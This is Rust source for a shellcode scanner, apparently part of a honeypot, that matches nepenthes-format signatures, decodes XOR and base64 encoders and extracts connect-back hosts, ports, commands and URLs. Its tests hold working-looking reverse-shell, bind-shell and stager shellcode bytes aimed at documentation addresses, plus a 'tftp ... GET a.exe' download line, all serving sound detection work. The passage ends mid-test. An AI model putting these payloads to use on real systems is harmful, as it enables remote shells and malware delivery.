//! cspm: shellcode recognised by signatures in the nepenthes format ([`sigfile`]).
//!
//! The signatures are tried in file order on the attack string (its first [`SCAN_MAX`]
//! bytes). A match of a decoder (`xor`, `linkxor`, `konstanzxor`, `leimbachxor`,
//! `alphanumericxor`, `base64`) decodes the data in a copy and matching starts again from
//! the first signature on that copy, at most [`MAX_ROUNDS`] times; the first match of any
//! other namespace ends the scan and is the result: the shell type, the host and port of a
//! connect-back (`host`, `port`, XOR-ed with `hostkey`, `portkey` when mapped), the port of
//! a bind shell, the key a connect-back file transfer sends, a command (`execute`) or a URL
//! (`url`, `download`). Group contents are taken as the shellcode holds them: addresses and
//! ports in network byte order, sizes little-endian.
//!
//! Matching is linear in the data (the `regex` crate has no backtracking), every decoded
//! copy is charged to the attack's memory budget, and the scan stops at the analysis
//! stage's deadline.
//!
//! With `follow_connectback = "yes"` the connect-backs are followed as downloads (see
//! [`Cspm::follow_ups`]): a TCP connection to the host and port, the key sent first when
//! the signature maps one, and what arrives kept (for a shell: the commands typed into it,
//! which the download extraction then reads).

pub mod sigfile;

use crate::attack::Shellcode;
use crate::budget::Charge;
use crate::text;
use sigfile::{Item, Namespace, SigError, Signature};
use std::net::Ipv4Addr;
use std::path::Path;
use std::time::Instant;

/// Bytes of an attack string scanned at most.
pub const SCAN_MAX: usize = 1 << 20;
/// Most decoder matches in one scan.
pub const MAX_ROUNDS: usize = 8;
/// Longest command or URL recorded.
const TEXT_MAX: usize = 2048;
/// Largest compiled pattern.
const REGEX_SIZE: usize = 2 << 20;

/// A signature with its compiled pattern.
struct Compiled {
    sig: Signature,
    re: regex::bytes::Regex,
}

/// The loaded signatures of plugin-cspm.
pub struct Cspm {
    sigs: Vec<Compiled>,
    /// `follow_connectback = "yes"`.
    pub follow: bool,
}

impl std::fmt::Debug for Cspm {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Cspm").field("signatures", &self.sigs.len()).field("follow", &self.follow).finish()
    }
}

/// The pattern's bytes as the text of a byte-oriented regular expression: printable ASCII
/// as it is (it is the expression's syntax), every other byte as `\xHH` (matching itself).
fn expression(pattern: &[u8]) -> String {
    let mut s = String::with_capacity(pattern.len() * 2);
    for &b in pattern {
        if (0x20..0x7f).contains(&b) {
            s.push(b as char);
        } else {
            s.push_str(&format!("\\x{:02X}", b));
        }
    }
    s
}

impl Cspm {
    /// Loads and compiles the signature file at `path`.
    pub fn load(path: &Path, follow: bool) -> Result<Cspm, SigError> {
        let sigs = sigfile::load(path)?;
        Cspm::compile(sigs, follow).map_err(|(line, col, why)| SigError::Syntax { path: path.into(), line, col, why })
    }

    /// Compiles parsed signatures; an error names the signature's line and column.
    pub fn compile(sigs: Vec<Signature>, follow: bool) -> Result<Cspm, (u32, u32, String)> {
        let mut out = Vec::with_capacity(sigs.len());
        for sig in sigs {
            let re = regex::bytes::RegexBuilder::new(&expression(&sig.pattern))
                .unicode(false)
                .dot_matches_new_line(true)
                .size_limit(REGEX_SIZE)
                .dfa_size_limit(2 * REGEX_SIZE)
                .build()
                .map_err(|e| {
                    let why = match e {
                        regex::Error::CompiledTooBig(_) => "the pattern is too large".to_string(),
                        e => e.to_string().lines().last().unwrap_or("").trim().to_string(),
                    };
                    (sig.line, sig.col, format!("pattern of {} does not compile: {}", sig.full_name(), why))
                })?;
            out.push(Compiled { sig, re });
        }
        Ok(Cspm { sigs: out, follow })
    }

    /// Number of signatures.
    pub fn len(&self) -> usize {
        self.sigs.len()
    }

    /// Whether there is no signature.
    pub fn is_empty(&self) -> bool {
        self.sigs.is_empty()
    }

    /// [`Cspm::scan`] charged to no memory budget (for tools and the fuzz target).
    pub fn scan_unbudgeted(&self, data: &[u8], deadline: Instant) -> Option<Shellcode> {
        self.scan(data, deadline, &mut Charge::none())
    }

    /// What the signatures find in `data`, scanning until `deadline`; decoded copies are
    /// charged to `charge` (a copy it has no room for ends the scan). `None` when nothing
    /// matched.
    pub fn scan(&self, data: &[u8], deadline: Instant, charge: &mut Charge) -> Option<Shellcode> {
        if data.len() > SCAN_MAX {
            crate::log_info!("CSPM - Only the first {} bytes of the attack string are scanned.", SCAN_MAX);
        }
        let first = &data[..data.len().min(SCAN_MAX)];
        let mut held: Option<Vec<u8>> = None;
        let mut decoders = Vec::new();
        let mut last_decoder = None;
        let mut rounds = 0;
        'again: loop {
            let cur: &[u8] = held.as_deref().unwrap_or(first);
            for c in &self.sigs {
                if Instant::now() >= deadline {
                    crate::log_warn!(
                        "CSPM - Warning - Analysis time is up, shellcode matching stopped at {}.",
                        c.sig.full_name()
                    );
                    break 'again;
                }
                let Some(caps) = c.re.captures(cur) else { continue };
                let m = Groups { sig: &c.sig, caps: &caps };
                if c.sig.namespace.is_decoder() {
                    let Some((decoded, key)) = decode(&m, cur) else { continue };
                    if decoded == cur {
                        continue;
                    }
                    if rounds == MAX_ROUNDS {
                        crate::log_info!("CSPM - {} decoder matches, no more decoding.", MAX_ROUNDS);
                        break 'again;
                    }
                    if !charge.try_grow(decoded.len()) {
                        crate::log_warn!(
                            "CSPM - Warning - Memory budget spent, {} bytes decoded by {} not scanned.",
                            decoded.len(),
                            c.sig.full_name()
                        );
                        break 'again;
                    }
                    rounds += 1;
                    let desc = match &key {
                        Some(k) => format!("{} (key 0x{})", c.sig.full_name(), text::hex(k)),
                        None => c.sig.full_name(),
                    };
                    crate::log_info!("CSPM - Shellcode decoded by {}.", desc);
                    decoders.push(desc);
                    last_decoder = Some((c.sig.namespace, c.sig.full_name(), key));
                    if let Some(old) = held.replace(decoded) {
                        charge.shrink(old.len());
                    }
                    continue 'again;
                }
                if let Some(mut found) = result(&m) {
                    found.decoders = decoders;
                    if let Some(h) = held.take() {
                        charge.shrink(h.len());
                    }
                    return Some(found);
                }
            }
            break;
        }
        if let Some(h) = held.take() {
            charge.shrink(h.len());
        }
        last_decoder.map(|(ns, name, key)| Shellcode {
            signature: name,
            kind: ns.name().to_string(),
            key: key.map(|k| text::hex(&k)),
            decoders,
            ..Shellcode::default()
        })
    }
}

/// A match with the signature's mapping.
struct Groups<'a> {
    sig: &'a Signature,
    caps: &'a regex::bytes::Captures<'a>,
}

impl Groups<'_> {
    /// The first group that took part in the match among those the mapping names `item`
    /// (item N is group N).
    fn get(&self, item: Item) -> Option<regex::bytes::Match<'_>> {
        let mut groups = self.sig.mapping.iter().enumerate().filter(|(_, &m)| m == item);
        groups.find_map(|(i, _)| self.caps.get(i))
    }

    /// Every group mapped to `item`, in order.
    fn all(&self, item: Item) -> Vec<&[u8]> {
        let groups = self.sig.mapping.iter().enumerate().filter(|(_, &m)| m == item);
        groups.filter_map(|(i, _)| self.caps.get(i)).map(|m| m.as_bytes()).collect()
    }

    fn bytes(&self, item: Item) -> Option<&[u8]> {
        self.get(item).map(|m| m.as_bytes())
    }

    /// The first group, or the one mapped to `item`.
    fn text(&self, item: Item) -> Option<&[u8]> {
        self.bytes(item).or_else(|| self.caps.get(1).map(|m| m.as_bytes())).filter(|b| !b.is_empty())
    }
}

/// A little-endian number of 1, 2 or 4 bytes.
fn little(b: &[u8]) -> Option<u32> {
    match b.len() {
        1 => Some(b[0].into()),
        2 => Some(u16::from_le_bytes([b[0], b[1]]).into()),
        4 => Some(u32::from_le_bytes([b[0], b[1], b[2], b[3]])),
        _ => None,
    }
}

/// The decoder's count of units: `size` as written, `sizeinvert` negated (as the loop
/// counter of `sub ecx, -N` holds it); `None` when neither is mapped.
fn count(m: &Groups) -> Option<usize> {
    if let Some(b) = m.bytes(Item::Size) {
        return little(b).map(|n| n as usize);
    }
    let b = m.bytes(Item::SizeInvert)?;
    let n = little(b)?;
    Some(match b.len() {
        1 => 256 - n,
        2 => 65536 - n,
        _ => n.wrapping_neg(),
    } as usize)
}

/// The copy of `cur` a decoder match makes, with the key it used: the `post` group decoded
/// in place, the `decoder` group replaced by NOPs (so that it does not match again).
fn decode(m: &Groups, cur: &[u8]) -> Option<(Vec<u8>, Option<Vec<u8>>)> {
    let ns = m.sig.namespace;
    if matches!(ns, Namespace::AlphanumericXor | Namespace::Base64) {
        return replace_payload(m, cur).map(|d| (d, None));
    }
    let post = m.get(Item::Post)?;
    let mut out = cur.to_vec();
    if let Some(d) = m.get(Item::Decoder) {
        out[d.range()].fill(0x90);
    }
    let body = &mut out[post.range()];
    let key: Vec<u8>;
    match ns {
        Namespace::Xor | Namespace::LeimbachXor => {
            key = m.bytes(Item::Key)?.to_vec();
            if key.is_empty() {
                return None;
            }
            // The count is of key-sized units.
            let n = count(m).map_or(body.len(), |c| c.saturating_mul(key.len()).min(body.len()));
            for (i, b) in body[..n].iter_mut().enumerate() {
                *b ^= key[i % key.len()];
            }
        }
        Namespace::LinkXor => {
            // The length is the XOR of two numbers; the key one byte.
            key = m.bytes(Item::Key)?.get(..1)?.to_vec();
            let sizes = m.all(Item::Size);
            let n = match sizes.as_slice() {
                [a, b] => (little(a)? ^ little(b)?) as usize,
                [a] => little(a)? as usize,
                _ => body.len(),
            };
            let n = n.min(body.len());
            for b in body[..n].iter_mut() {
                *b ^= key[0];
            }
        }
        Namespace::KonstanzXor => {
            // Each byte XOR-ed with its position (from 1).
            key = Vec::new();
            let n = count(m).map_or(body.len(), |c| c.min(body.len()));
            for (i, b) in body[..n].iter_mut().enumerate() {
                *b ^= (i + 1) as u8;
            }
        }
        _ => return None,
    }
    Some((out, (!key.is_empty()).then_some(key)))
}

/// `pre`, the decoded `payload` (after the `decoder` as NOPs), `post`: alphanumeric XOR
/// (two characters a byte) or base64.
fn replace_payload(m: &Groups, cur: &[u8]) -> Option<Vec<u8>> {
    let payload = m.get(Item::Payload)?;
    let decoded = match m.sig.namespace {
        Namespace::Base64 => crate::pipeline::decode::base64_decode(payload.as_bytes())?,
        _ => payload.as_bytes().chunks_exact(2).map(|p| (p[0].wrapping_sub(1) ^ 0x41) | ((p[1] & 0x0f) << 4)).collect(),
    };
    let mut out = Vec::with_capacity(cur.len());
    out.extend_from_slice(&cur[..payload.start()]);
    if let Some(d) = m.get(Item::Decoder) {
        if d.end() <= payload.start() {
            out[d.range()].fill(0x90);
        }
    }
    out.extend_from_slice(&decoded);
    out.extend_from_slice(&cur[payload.end()..]);
    Some(out)
}

/// What a match of a namespace other than a decoder says; `None` when its groups do not
/// hold what the namespace needs (a host of other than 4 bytes, a port of other than 2).
fn result(m: &Groups) -> Option<Shellcode> {
    let ns = m.sig.namespace;
    let mut s = Shellcode { signature: m.sig.full_name(), kind: ns.name().to_string(), ..Shellcode::default() };
    let port = |m: &Groups| -> Option<u16> {
        let p = m.bytes(Item::Port)?;
        let p = u16::from_be_bytes(p.try_into().ok()?);
        match m.bytes(Item::PortKey) {
            Some(k) => Some(p ^ u16::from_be_bytes(k.try_into().ok()?)),
            None => Some(p),
        }
    };
    match ns {
        Namespace::BindShell | Namespace::BindFileTransfer => {
            s.port = Some(port(m)?);
            s.key = m.bytes(Item::Key).map(text::hex);
        }
        Namespace::ConnectBackShell | Namespace::ConnectBackFileTransfer => {
            let h: [u8; 4] = m.bytes(Item::Host)?.try_into().ok()?;
            let h = match m.bytes(Item::HostKey) {
                Some(k) => {
                    let k: [u8; 4] = k.try_into().ok()?;
                    [h[0] ^ k[0], h[1] ^ k[1], h[2] ^ k[2], h[3] ^ k[3]]
                }
                None => h,
            };
            s.host = Some(Ipv4Addr::from(h).into());
            s.port = Some(port(m)?);
            s.key = m.bytes(Item::Key).map(text::hex);
        }
        Namespace::Execute => s.command = Some(text::printable(m.text(Item::Command)?, TEXT_MAX)),
        Namespace::Url | Namespace::Download => {
            let u = m.text(Item::Uri)?;
            // A URL is printable ASCII without spaces; a `download` signature may also find
            // a download command (with spaces), kept as the command.
            if u.len() > TEXT_MAX || !u.iter().all(|&c| c == b' ' || c.is_ascii_graphic()) {
                return None;
            }
            let text = String::from_utf8_lossy(u).into_owned();
            match (ns, u.contains(&b' ')) {
                (_, false) => s.url = Some(text),
                (Namespace::Download, true) => s.command = Some(text),
                (Namespace::Url, true) => return None,
                _ => unreachable!("only url and download get here"),
            }
        }
        _ => return None,
    }
    Some(s)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    fn engine(text: &str) -> Cspm {
        Cspm::compile(sigfile::parse(text.as_bytes()).unwrap(), false).unwrap()
    }

    fn scan(c: &Cspm, data: &[u8]) -> Option<Shellcode> {
        c.scan(data, Instant::now() + Duration::from_secs(5), &mut Charge::none())
    }

    #[test]
    fn raw_bytes_and_escapes_reach_the_expression() {
        assert_eq!(expression(b"\\xEB(.)\x90\x00+"), "\\xEB(.)\\x90\\x00+");
        let c = engine(r#"bindshell::b { pattern "\x90\\x68\\x02\\x00(..)"; mapping (none, port); };"#);
        let s = scan(&c, b"AAAA\x90\x68\x02\x00\x11\x5cBBBB").unwrap();
        assert_eq!((s.kind.as_str(), s.port), ("bindshell", Some(4444)));
        assert_eq!(s.signature, "bindshell::b");
        assert!(scan(&c, b"AAAA\x91\x68\x02\x00\x11\x5c").is_none());
    }

    #[test]
    fn a_pattern_that_does_not_compile_is_named() {
        let sigs = sigfile::parse(b"\n\nurl::bad { pattern \"(ab\"; };").unwrap();
        let (line, col, why) = Cspm::compile(sigs, false).unwrap_err();
        assert_eq!((line, col), (3, 1));
        assert!(why.contains("url::bad does not compile"), "{why}");
    }

    #[test]
    fn xor_decoded_and_matched_again() {
        let c = engine(concat!(
            r#"xor::x { pattern "(.*)(\\xEB\\x10(.)\\x80\\x34\\x0A(.)\\xE2\\xFA)(.*)$"; mapping (none, pre, decoder, size, key, post); };"#,
            r#"connectbackshell::c { pattern "\\x68(....)\\x68\\x02\\x00(..)\\x89\\xE1"; mapping (none, host, port); };"#,
        ));
        let inner = b"\x90\x90\x68\xc0\x00\x02\x07\x68\x02\x00\x01\xbb\x89\xe1\xcc";
        let mut data = b"GARBAGE\xeb\x10".to_vec();
        data.push(inner.len() as u8);
        data.extend_from_slice(b"\x80\x34\x0a\x99\xe2\xfa");
        data.extend(inner.iter().map(|b| b ^ 0x99));
        let s = scan(&c, &data).unwrap();
        assert_eq!(s.kind, "connectbackshell");
        assert_eq!(s.host, Some("192.0.2.7".parse().unwrap()));
        assert_eq!(s.port, Some(443));
        assert_eq!(s.decoders, ["xor::x (key 0x99)"]);
        // Without the connect-back signature the decoder is the result.
        let only = engine(
            r#"xor::x { pattern "(.*)(\\xEB\\x10(.)\\x80\\x34\\x0A(.)\\xE2\\xFA)(.*)$"; mapping (none, pre, decoder, size, key, post); };"#,
        );
        let s = scan(&only, &data).unwrap();
        assert_eq!((s.kind.as_str(), s.key.as_deref()), ("xor", Some("99")));
    }

    #[test]
    fn dword_keys_sizeinvert_and_host_port_keys() {
        let c = engine(concat!(
            r#"xor::d { pattern "(.*)(\\x83\\xE9(.)\\x81\\x73\\x13(....))(.*)$"; mapping (none, pre, decoder, sizeinvert, key, post); };"#,
            r#"connectbackshell::k { pattern "\\xB8(....)\\x35(....)\\x66\\xB8(..)\\x66\\x35(..)"; mapping (none, host, hostkey, port, portkey); };"#,
        ));
        let mut inner = b"\xb8".to_vec();
        inner.extend([10 ^ 0x55, 1 ^ 0x55, 2 ^ 0x55, 3 ^ 0x55]);
        inner.extend(b"\x35\x55\x55\x55\x55\x66\xb8");
        inner.extend([0x11 ^ 0xaa, 0x5c ^ 0xbb]);
        inner.extend(b"\x66\x35\xaa\xbb\x90\x90\x90\x90");
        while !inner.len().is_multiple_of(4) {
            inner.push(0x90);
        }
        let key = [0x11u8, 0x22, 0x33, 0x44];
        let dwords = inner.len() / 4;
        let mut data = b"\x83\xe9".to_vec();
        data.push((256 - dwords) as u8);
        data.extend(b"\x81\x73\x13");
        data.extend(key);
        data.extend(inner.iter().enumerate().map(|(i, b)| b ^ key[i % 4]));
        let s = scan(&c, &data).unwrap();
        assert_eq!(s.host, Some("10.1.2.3".parse().unwrap()));
        assert_eq!(s.port, Some(4444));
        assert_eq!(s.decoders, ["xor::d (key 0x11223344)"]);
    }

    #[test]
    fn linkxor_konstanz_alphanumeric_and_base64() {
        let url = r#"url::u { pattern "(https?://[\\x21-\\x7E]+)\\x00"; mapping (none, uri); };"#;
        let target = b"\x90\x90http://198.51.100.9/x.exe\x00\x90";
        // link: length = a ^ b, one key byte.
        let c = engine(&format!(
            "{url}\nlinkxor::l {{ pattern \"\\\\xEB\\\\x15\\\\xB9(....)\\\\x81\\\\xF1(....)\\\\x5E\\\\x80\\\\x74\\\\x31\\\\xFF(.)(.*)\"; mapping (none, size, size, key, post); }};"
        ));
        let a = 0x1234_5678u32;
        let mut data = b"\xeb\x15\xb9".to_vec();
        data.extend(a.to_le_bytes());
        data.extend(b"\x81\xf1");
        data.extend((a ^ target.len() as u32).to_le_bytes());
        data.extend(b"\x5e\x80\x74\x31\xff\x42");
        data.extend(target.iter().map(|b| b ^ 0x42));
        let s = scan(&c, &data).unwrap();
        assert_eq!(s.url.as_deref(), Some("http://198.51.100.9/x.exe"));
        assert_eq!(s.decoders, ["linkxor::l (key 0x42)"]);
        // konstanz: byte i XOR (i + 1).
        let c = engine(&format!(
            "{url}\nkonstanzxor::k {{ pattern \"\\\\x66\\\\xB9(..)\\\\xE2\\\\xFA(.*)\"; mapping (none, size, post); }};"
        ));
        let mut data = b"\x66\xb9".to_vec();
        data.extend((target.len() as u16).to_le_bytes());
        data.extend(b"\xe2\xfa");
        data.extend(target.iter().enumerate().map(|(i, b)| b ^ (i as u8 + 1)));
        assert_eq!(scan(&c, &data).unwrap().url.as_deref(), Some("http://198.51.100.9/x.exe"));
        // alphanumeric: two characters a byte.
        let c = engine(&format!(
            "{url}\nalphanumericxor::a {{ pattern \"(.*)(VTX630)([A-Za-z0-9]+)(Z.*)$\"; mapping (none, pre, decoder, payload, post); }};"
        ));
        let mut data = b"..VTX630".to_vec();
        for &b in target.iter() {
            data.push(((b & 0x0f) ^ 0x41) + 1);
            let hi = b >> 4;
            data.push(if hi <= 9 { b'0' | hi } else { 0x40 | hi });
        }
        data.extend(b"Z");
        assert_eq!(scan(&c, &data).unwrap().url.as_deref(), Some("http://198.51.100.9/x.exe"));
        // base64.
        let c = engine(&format!(
            "{url}\nbase64::b {{ pattern \"(.*)(B64:)([A-Za-z0-9+/=]+)(.*)$\"; mapping (none, pre, decoder, payload, post); }};"
        ));
        let data = format!("B64:{};", crate::pipeline::decode::base64_encode(target));
        let s = scan(&c, data.as_bytes()).unwrap();
        assert_eq!(s.url.as_deref(), Some("http://198.51.100.9/x.exe"));
        assert_eq!(s.decoders, ["base64::b"]);
    }

    #[test]
    fn execute_bind_and_file_transfer() {
        let c = engine(concat!(
            r#"execute::e { pattern "(cmd(?:\\.exe)? /[ck] [\\x20-\\x7E]+)\\x00"; mapping (none, command); };"#,
            r#"bindfiletransfer::b { pattern "\\x68\\x02\\x00(..)\\x89\\xE6.(.)"; mapping (none, port, key); };"#,
            r#"connectbackfiletransfer::f { pattern "\\x68(....)\\x68\\x02\\x00(..)\\x6A(....)"; mapping (none, host, port, key); };"#,
        ));
        let d = engine(r#"download::d { pattern "\\x00(tftp -i [\\x20-\\x7E]+)\\x00"; mapping (none, uri); };"#);
        let s = scan(&d, b"\x90\x00tftp -i 192.0.2.9 GET a.exe\x00").unwrap();
        assert_eq!(
            (s.kind.as_str(), s.command.as_deref(), s.url),
            ("download", Some("tftp -i 192.0.2.9 GET a.exe"), None)
        );
        let s = scan(&c, b"xx cmd /c echo hi > a.txt\x00").unwrap();
        assert_eq!(s.command.as_deref(), Some("cmd /c echo hi > a.txt"));
        let s = scan(&c, b"\x68\x02\x00\x1f\x90\x89\xe6\x00\x07").unwrap();
        assert_eq!((s.kind.as_str(), s.port, s.key.as_deref()), ("bindfiletransfer", Some(8080), Some("07")));
        let s = scan(&c, b"\x68\x0a\x00\x00\x01\x68\x02\x00\x00\x50\x6a\xde\xad\xbe\xef").unwrap();
        assert_eq!(s.host, Some("10.0.0.1".parse().unwrap()));
        assert_eq!((s.port, s.key.as_deref()), (Some(80), Some("deadbeef")));
        // A group of the wrong size is no match of that signature.
        let c = engine(r#"connectbackshell::c { pattern "H(.*)P(..)"; mapping (none, host, port); };"#);
        assert!(scan(&c, b"H\x01\x02\x03P\x00\x50").is_none());
    }

    #[test]
    fn bounded_in_rounds_time_and_memory() {
        // A decoder that matches its own output again and again stops after MAX_ROUNDS.
        let c = engine(r#"konstanzxor::k { pattern "K(.*)"; mapping (none, post); };"#);
        let data = vec![b'K'; 64];
        let s = scan(&c, &data).unwrap();
        assert_eq!(s.decoders.len(), MAX_ROUNDS);
        // No time: nothing is matched.
        let b = engine(r#"bindshell::b { pattern "\\x68\\x02\\x00(..)"; mapping (none, port); };"#);
        assert!(b.scan(b"\x68\x02\x00\x00\x50", Instant::now(), &mut Charge::none()).is_none());
        // No memory for the decoded copy: the scan ends without it.
        let budget = crate::budget::Budget::new(10);
        let mut charge = budget.charge();
        let s = c.scan(&data, Instant::now() + Duration::from_secs(5), &mut charge);
        assert!(s.is_none());
        assert_eq!(charge.bytes(), 0);
    }

    /// The shipped signatures, and shellcode of each family they are for.
    mod shipped {
        use super::*;

        const IP: [u8; 4] = [203, 0, 113, 5];
        const PORT: [u8; 2] = [0x11, 0x5c]; // 4444

        fn shipped() -> Cspm {
            let text = include_bytes!("../../../../contrib/shellcode-signatures.sc");
            Cspm::compile(sigfile::parse(text).unwrap(), false).unwrap()
        }

        fn cat(parts: &[&[u8]]) -> Vec<u8> {
            parts.concat()
        }

        fn win_connect(tail: &[u8]) -> Vec<u8> {
            let connect = b"\x89\xe6\x6a\x10\x56\x57\x68\x99\xa5\x74\x61\xff\xd5";
            cat(&[b"\xfc\xe8\x82\x00\x00\x00\x60\x89\xe5", b"\x68", &IP, b"\x68\x02\x00", &PORT, connect, tail])
        }

        /// The later layout: the socket made between the address pushed and the connect.
        fn win_stager_socket_between() -> Vec<u8> {
            let socket = b"\x50\x50\x50\x50\x40\x50\x40\x50\x68\xea\x0f\xdf\xe0\xff\xd5\x97";
            let connect = b"\x6a\x10\x56\x57\x68\x99\xa5\x74\x61\xff\xd5\x85\xc0\x74\x0a\xff\x4e\x08\x75\xec";
            let recv = b"\x6a\x00\x6a\x04\x56\x57\x68\x02\xd9\xc8\x5f\xff\xd5";
            cat(&[b"\x6a\x0a\x68", &IP, b"\x68\x02\x00", &PORT, b"\x89\xe6", socket, connect, recv])
        }

        fn win_stager() -> Vec<u8> {
            win_connect(b"\x85\xc0\x74\x0c\x6a\x00\x6a\x04\x56\x57\x68\x02\xd9\xc8\x5f\xff\xd5\x8b\x36")
        }

        fn win_shell() -> Vec<u8> {
            win_connect(b"\x68\x63\x6d\x64\x00\x89\xe3\x57\x57\x57\x31\xf6\x6a\x12\x59")
        }

        fn linux_x86_shell() -> Vec<u8> {
            cat(&[
                b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80\x93\x59\xb0\x3f\xcd\x80\x49\x79\xf9\x68",
                &IP,
                b"\x68\x02\x00",
                &PORT,
                b"\x89\xe1\xb0\x66\x50\x51\x53\xb3\x03\x89\xe1\xcd\x80\x52\x68\x2f\x2f\x73\x68\x68\x2f\x62\x69\x6e\x89\xe3\x52\x53\x89\xe1\xb0\x0b\xcd\x80",
            ])
        }

        fn linux_x86_stager() -> Vec<u8> {
            cat(&[
                b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\xb0\x66\x89\xe1\xcd\x80\x97\x5b\x68",
                &IP,
                b"\x68\x02\x00",
                &PORT,
                b"\x89\xe1\x6a\x66\x58\x50\x51\x57\x89\xe1\x43\xcd\x80\xb2\x07\xb9\x00\x10\x00\x00\x89\xe3\xc1\xeb\x0c\xc1\xe3\x0c\xb0\x7d\xcd\x80\x5b\x89\xe1\x99\xb6\x0c\xb0\x03\xcd\x80\xff\xe1",
            ])
        }

        /// The port and AF_INET pushed as two words, "n/sh" "//bi" pushed.
        fn linux_x86_shell_words() -> Vec<u8> {
            cat(&[
                b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80\x93\x59\xb0\x3f\xcd\x80\x49\x79\xf9\x68",
                &IP,
                b"\x66\x68",
                &PORT,
                b"\x66\x6a\x02\x89\xe1\xb0\x66\x50\x51\x53\xb3\x03\x89\xe1\xcd\x80\x52\x68\x6e\x2f\x73\x68\x68\x2f\x2f\x62\x69\x89\xe3\x52\x53\x89\xe1\xb0\x0b\xcd\x80",
            ])
        }

        fn linux_x64_shell() -> Vec<u8> {
            cat(&[
                b"\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05\x48\x97\x48\xb9\x02\x00",
                &PORT,
                &IP,
                b"\x51\x48\x89\xe6\x6a\x10\x5a\x6a\x2a\x58\x0f\x05\x6a\x03\x5e\x48\xff\xce\x6a\x21\x58\x0f\x05\x75\xf6\x6a\x3b\x58\x99\x48\xbb\x2f\x62\x69\x6e\x2f\x73\x68\x00\x53\x48\x89\xe7\x52\x57\x48\x89\xe6\x0f\x05",
            ])
        }

        /// jmp/call/pop decoder with a 16-bit count over `[edx+ecx]`.
        fn jmp_call_pop(inner: &[u8], key: u8) -> Vec<u8> {
            let n = (inner.len() as u16).to_le_bytes();
            let body: Vec<u8> = inner.iter().map(|b| b ^ key).collect();
            cat(&[
                b"\x90\x90\xeb\x10\x5a\x4a\x33\xc9\x66\xb9",
                &n,
                b"\x80\x34\x0a",
                &[key],
                b"\xe2\xfa\xeb\x05\xe8\xeb\xff\xff\xff",
                &body,
            ])
        }

        /// jmp/jmp/call/pop decoder with a 16-bit count over `[ebx+0x0e]`, `inc ebx`.
        fn jmp_jmp_call_pop(inner: &[u8], key: u8) -> Vec<u8> {
            let n = (inner.len() as u16).to_le_bytes();
            let body: Vec<u8> = inner.iter().map(|b| b ^ key).collect();
            let head = b"\xeb\x02\xeb\x05\xe8\xf9\xff\xff\xff\x5b\x31\xc9\x66\xb9";
            cat(&[head, &n, b"\x80\x73\x0e", &[key], b"\x43\xe2\xf9", &body])
        }

        /// call/pop decoder with an 8-bit count over `[esi]`, `inc esi`.
        fn call_pop(inner: &[u8], key: u8) -> Vec<u8> {
            let body: Vec<u8> = inner.iter().map(|b| b ^ key).collect();
            cat(&[
                b"\xe8\x00\x00\x00\x00\x5e\x83\xc6\x0d\x31\xc9\xb1",
                &[inner.len() as u8],
                b"\x80\x36",
                &[key],
                b"\x46\xe2\xfa",
                &body,
            ])
        }

        /// fnstenv GetPC, dword key, the count as `sub ecx, -N` or as `push N; pop ecx`.
        fn fnstenv(inner: &[u8], key: [u8; 4], push_pop: bool) -> Vec<u8> {
            let mut inner = inner.to_vec();
            while !inner.len().is_multiple_of(4) {
                inner.push(0x90);
            }
            let body: Vec<u8> = inner.iter().enumerate().map(|(i, b)| b ^ key[i % 4]).collect();
            let n = inner.len() / 4;
            let count =
                if push_pop { vec![0x6a, n as u8, 0x59] } else { vec![0x31, 0xc9, 0x83, 0xe9, (256 - n) as u8] };
            cat(&[&count, b"\xd9\xee\xd9\x74\x24\xf4\x5b\x81\x73\x13", &key, b"\x83\xeb\xfc\xe2\xf4", &body])
        }

        fn check(found: Option<Shellcode>, kind: &str, sig: &str) -> Shellcode {
            let s = found.unwrap_or_else(|| panic!("{sig}: no match"));
            assert_eq!((s.kind.as_str(), s.signature.as_str()), (kind, sig));
            s
        }

        #[test]
        fn every_family_is_recognised() {
            let c = shipped();
            let host = Some(std::net::IpAddr::from(IP));
            let cases: [(Vec<u8>, &str, &str); 7] = [
                (win_stager(), "connectbackfiletransfer", "connectbackfiletransfer::win_stager_recv"),
                (win_stager_socket_between(), "connectbackfiletransfer", "connectbackfiletransfer::win_stager_recv"),
                (linux_x86_shell_words(), "connectbackshell", "connectbackshell::linux_x86_connect_sh"),
                (linux_x86_stager(), "connectbackfiletransfer", "connectbackfiletransfer::linux_x86_stager_read"),
                (win_shell(), "connectbackshell", "connectbackshell::win_connect_cmd"),
                (linux_x86_shell(), "connectbackshell", "connectbackshell::linux_x86_connect_sh"),
                (linux_x64_shell(), "connectbackshell", "connectbackshell::linux_x64_connect_sh"),
            ];
            for (code, kind, sig) in &cases {
                let s = check(scan(&c, code), kind, sig);
                assert_eq!((s.host, s.port), (host, Some(4444)), "{sig}");
                assert!(s.decoders.is_empty());
            }
            let bind = [
                (b"\x53\x68\x02\x00\x11\x5c\x89\xe6\x6a\x10\x56\x57\x68\xc2\xdb\x37\x67\xff\xd5".to_vec(), "bindshell::win_bind"),
                (b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80\x5b\x5e\x52\x68\x02\x00\x11\x5c\x6a\x10\x51\x50\x89\xe1\x6a\x66\x58\xcd\x80".to_vec(), "bindshell::linux_x86_bind"),
                (b"\x31\xdb\xf7\xe3\x53\x43\x53\x6a\x02\x89\xe1\xb0\x66\xcd\x80\x5b\x5e\x52\x66\x68\x11\x5c\x66\x6a\x02\x6a\x10\x51\x50\x89\xe1\x6a\x66\x58\xcd\x80".to_vec(), "bindshell::linux_x86_bind"),
                (b"\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05\x48\x97\x52\xc7\x04\x24\x02\x00\x11\x5c\x48\x89\xe6\x6a\x10\x5a\x6a\x31\x58\x0f\x05".to_vec(), "bindshell::linux_x64_bind"),
            ];
            for (code, sig) in &bind {
                let s = check(scan(&c, code), "bindshell", sig);
                assert_eq!((s.host, s.port), (None, Some(4444)), "{sig}");
            }
            let xored =
                b"\xb8\xcb\x55\x66\x50\x35\x00\x55\x17\x55\x50\x66\xb8\x10\x5d\x66\x35\x01\x01\x66\x50\x66\x6a\x02";
